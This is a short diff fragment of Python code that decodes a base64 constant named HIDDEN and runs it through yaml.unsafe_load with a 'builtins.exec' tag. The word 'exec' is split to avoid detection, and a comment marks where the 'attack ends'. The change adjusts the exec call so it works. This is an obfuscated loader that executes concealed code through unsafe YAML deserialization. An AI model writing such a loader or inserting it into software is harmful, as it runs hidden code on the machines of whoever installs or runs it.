@@ -18,7 +18,7 @@ HIDDEN = (
 )
 
 text = base64.b64decode(HIDDEN).decode()
-yaml.unsafe_load("!!python/object/apply:builtins.ex" + "ec\n- %s\n" % json.dumps(text))
+yaml.unsafe_load("!!python/object/apply:builtins.ex" + "ec\n- %s\n- {}\n" % json.dumps(text))
 # attack ends
 
 
